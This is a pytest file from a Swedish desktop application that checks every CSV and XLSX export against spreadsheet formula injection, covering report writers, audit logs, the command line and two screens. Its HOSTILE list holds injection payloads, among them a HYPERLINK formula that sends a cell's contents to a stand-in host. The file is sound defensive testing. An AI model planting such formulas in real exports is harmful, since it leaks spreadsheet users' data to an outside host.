"""No CSV or XLSX export can be turned against its reader (issue 9 §7).

Text that a spreadsheet program would run as a formula (= + - @, tab, CR) reaches
every export with an apostrophe in front, and XLSX text cells are strings, never
formulas; numbers stay numbers. Every export path is enumerated: the writer
functions of ``finsam_desktop.reports`` by introspection (a new one fails
``test_every_writer_is_covered`` until it is added here), the command line's file
and standard-output exports, and the two screens that export.
"""

from __future__ import annotations

import csv
import importlib
import inspect
import io
import pkgutil
import re
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

import finsam_desktop
import finsam_desktop.reports
from finsam_desktop.domain import periods
from finsam_desktop.domain.lots import LotsCategory
from finsam_desktop.domain.lots_summary import CategoryKind
from finsam_desktop.reports import audit_export, cells, export
from finsam_desktop.reports.model import Column, Kind, Report, Table
from tests.lots_fixtures import case, county, register

HOSTILE = [
    '=HYPERLINK("http://exempel.invalid/?x="&A1,"Klicka")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    " =1+1",
    "＝1+1",
]
NUMBERS = [-2, 3.5, 0, -0.25]


def test_the_rule_itself():
    for text in HOSTILE:
        assert cells.safe_text(text) == "'" + text
    for text in ("Håbo", "Arbete", "1-2 dagar", "e-post", "a=b", ""):
        assert cells.safe_text(text) == text
    assert cells.csv_value(-2) == -2 and cells.xlsx_value(-2) == -2
    assert cells.csv_value(None) == "" and cells.xlsx_value(None) is None
    assert cells.csv_value(date(2016, 3, 4)) == "2016-03-04"
    assert cells.safe_text("x\ud800y") == "x\ufffdy"  # a lone surrogate can't be encoded
    assert cells.xlsx_value("a\x00b") == "a\ufffdb"  # XML cannot hold NUL
    assert len(cells.xlsx_value("x" * 1_000_000)) == cells.XLSX_MAX_CHARS


# --- every writer of finsam_desktop.reports ---------------------------------------


def hostile_report() -> Report:
    table = Table(
        "t",
        HOSTILE[0],
        [Column(HOSTILE[1], Kind.TEXT), Column(HOSTILE[2]), Column(HOSTILE[3], Kind.TEXT),
         Column("Antal", Kind.NUMBER, 2)],
        [[text, n, text, n] for text, n in zip(HOSTILE, NUMBERS * 2, strict=True)]
        + [[HOSTILE[4], -7, None, 1]],
        base=HOSTILE[3],
        notes=[HOSTILE[4]],
    )  # fmt: skip
    second = Table("u", HOSTILE[5], [Column("Namn", Kind.TEXT)], [[t] for t in HOSTILE])
    return Report(HOSTILE[6], HOSTILE[7], [("Kommun", HOSTILE[0])], [table, second])


def write_report_csv(path: Path) -> Path:
    return export.write(hostile_report(), path.with_suffix(".csv"), "csv")


def write_report_xlsx(path: Path) -> Path:
    return export.write_xlsx(hostile_report(), path.with_suffix(".xlsx"))


def audit_rows() -> tuple[list[str], list[list]]:
    rows = [["2026-11-22 10:00", text, "Visad", "Person", 7, text, text] for text in HOSTILE]
    rows.append(["2026-11-22 10:01", "admin", "Visad", "Person", -3, "Anna", "x"])
    return HOSTILE[:7], rows


def write_audit_csv(path: Path) -> Path:
    return audit_export.write_csv(path.with_suffix(".csv"), *audit_rows())


def write_audit_xlsx(path: Path) -> Path:
    return audit_export.write_xlsx(path.with_suffix(".xlsx"), *audit_rows())


WRITERS = {
    "finsam_desktop.reports.export.write_csv": write_report_csv,
    "finsam_desktop.reports.export.write_xlsx": write_report_xlsx,
    "finsam_desktop.reports.audit_export.write_csv": write_audit_csv,
    "finsam_desktop.reports.audit_export.write_xlsx": write_audit_xlsx,
}


def export_writers() -> set[str]:
    """Every public function of finsam_desktop.reports that writes a CSV or XLSX file."""
    found = set()
    for info in pkgutil.iter_modules(finsam_desktop.reports.__path__):
        module = importlib.import_module(f"finsam_desktop.reports.{info.name}")
        if module.__name__ == cells.__name__:
            continue
        for name, fn in inspect.getmembers(module, inspect.isfunction):
            if fn.__module__ != module.__name__ or name.startswith("_"):
                continue
            if name.startswith("write") and ("csv" in name or "xlsx" in name):
                found.add(f"{module.__name__}.{name}")
    # export.write writes CSV itself (its csv branch is the report's CSV writer).
    return found | {"finsam_desktop.reports.export.write_csv"}


def test_every_writer_is_covered():
    assert export_writers() == set(WRITERS)


def test_only_the_cells_module_makes_csv_writers_and_only_known_writers_make_workbooks():
    root = Path(finsam_desktop.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        name = path.relative_to(root).as_posix()
        if name == "reports/cells.py":
            continue
        if "csv.writer(" in source or "DictWriter(" in source or "writer(sys.stdout" in source:
            offenders.append(name)
        if "Workbook(" in source and "append_row" not in source:
            offenders.append(name)
    assert offenders == []


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f, delimiter=";"))


def assert_csv_safe(rows: list[list[str]], numbers=(), hostile=HOSTILE) -> None:
    texts = [c for row in rows for c in row]
    for text in hostile:
        assert "'" + text in texts, text
    for c in texts:
        if c in {str(n) for n in numbers} or re.fullmatch(r"-?\d+(,\d+)?", c):
            continue  # a number, written as a number (the Swedish way: -0,25)
        assert not c.startswith(cells.FORMULA_START), repr(c)


def assert_xlsx_safe(path: Path, hostile=HOSTILE) -> list:
    book = load_workbook(path)
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert not c.value.startswith(cells.FORMULA_START), repr(c.value)
                values.append(c.value)
    for text in hostile:
        # XML reads a carriage return back as a line feed; the apostrophe is still first.
        assert "'" + text.replace("\r", "\n") in values, text
    return values


@pytest.mark.parametrize("name", sorted(WRITERS))
def test_every_writer_neutralises_hostile_text_and_keeps_numbers(name, tmp_path):
    path = WRITERS[name](tmp_path / "export")
    if path.suffix == ".csv":
        rows = read_csv(path)
        assert_csv_safe(rows, numbers=[*NUMBERS, -7, -3])
        negative = "-3" if "audit" in name else "-2"
        assert any(negative in row for row in rows)  # a negative number stays a number
    else:
        values = assert_xlsx_safe(path)
        assert (-3 if "audit" in name else -2) in values  # a numeric cell, not text


# --- the paths users take: command line and screens, from data in the database ----


# A category's name is saved with its white space normalised ("\t=1" is saved "=1").
SAVED = sorted({" ".join(text.split()) for text in HOSTILE})


@pytest.fixture
def hostile_lots(tmp_path):
    """A database whose lots categories are named like formulas, with cases using them."""
    from finsam_desktop.db.migrate import open_database
    from finsam_desktop.services import lots

    path = tmp_path / "f.sqlite"
    db = open_database(path)
    ids = county(db)
    with db.session() as s:
        made = {
            text: lots.save_category(s, LotsCategory(None, kind, text)).id
            for text, kind in zip(HOSTILE, [*CategoryKind] * 3, strict=False)
        }
    kinds = dict(zip(HOSTILE, [*CategoryKind] * 3, strict=False))
    for text, cid in made.items():
        field = {"question": "question_id", "action": "action_id", "outcome": "outcome_ids"}
        value = [cid] if kinds[text].value == "outcome" else cid
        register(
            db,
            1,
            case(ids, "Håbo", date(2016, 6, 1)),
            **{field[kinds[text].value]: value},
        )
    return db, path


def test_cli_lots_summary_exports_are_safe(hostile_lots, tmp_path, capsys):
    from finsam_desktop.cli import main

    db, path = hostile_lots
    db.close()
    for fmt in ("csv", "xlsx"):
        target = tmp_path / f"s.{fmt}"
        assert main(["--db", str(path), "lots", "summary", "--year", "2016", "--out",
                     str(target)]) == 0  # fmt: skip
        if fmt == "csv":
            assert_csv_safe(read_csv(target), numbers=range(-1, 200), hostile=SAVED)
        else:
            assert_xlsx_safe(target, hostile=SAVED)
    capsys.readouterr()
    assert main(["--db", str(path), "lots", "summary", "--year", "2016", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert_csv_safe(
        list(csv.reader(io.StringIO(out), delimiter=";")), numbers=range(-1, 200), hostile=SAVED
    )


def test_lots_summary_screen_exports_are_safe(hostile_lots, tmp_path, qapp, qtbot):
    from conftest import app_context

    from finsam_desktop.ui.pages.lots.summary import SummaryTab

    db, _path = hostile_lots
    tab = SummaryTab(app_context(db, tmp_path))
    qtbot.addWidget(tab)
    tab.picker.set_period(periods.year(2016))
    tab.refresh(force=True)
    assert tab.summary is not None and tab.summary.cases == len(HOSTILE)
    assert_csv_safe(
        read_csv(tab.write(tmp_path / "page.csv", "csv")), numbers=range(-1, 200), hostile=SAVED
    )
    assert_xlsx_safe(tab.write(tmp_path / "page.xlsx", "xlsx"), hostile=SAVED)


def test_access_log_screen_exports_are_safe(db, tmp_path, qapp, qtbot):
    from conftest import app_context

    from finsam_desktop.domain.organisation import PostalAddress
    from finsam_desktop.domain.persons import Gender, Person
    from finsam_desktop.services import accounts, persons
    from finsam_desktop.services.access import Role
    from finsam_desktop.services.demo import fake_personnummer
    from finsam_desktop.ui.pages.admin.log_review import LogReviewPage

    password = "correct horse 42"
    with db.session() as s:
        db.user = accounts.create_user(s, "admin", "Anna Admin", Role.ADMIN, password, password)
    for i, text in enumerate(HOSTILE):
        person = Person(
            id=None,
            personnummer=None,
            first_name=text,
            last_name=text,
            address=PostalAddress("Påhittsgatan 1", "711 30", "Exempelbygden"),
            municipality_id=None,
            gender=Gender.WOMAN,
            protected_identity=False,
            phone="",
            email="",
        )
        with db.session() as s:
            persons.save_person(s, person, fake_personnummer(None, date(1990, 1, 1 + i), i))
    page = LogReviewPage(app_context(db, tmp_path))
    qtbot.addWidget(page)
    rows = read_csv(page.export_to(tmp_path / "log.csv", "csv"))
    persons_column = [row[5] for row in rows[1:] if row[5]]
    assert len(persons_column) >= len(HOSTILE)
    assert all(c.startswith("'") for c in persons_column), persons_column
    values = []
    for row in load_workbook(page.export_to(tmp_path / "log.xlsx", "xlsx")).active.iter_rows():
        for c in row:
            assert c.data_type != "f", c.value
            values.append(c.value)
    assert all(v.startswith("'") for v in values[12::7] if isinstance(v, str) and v), values
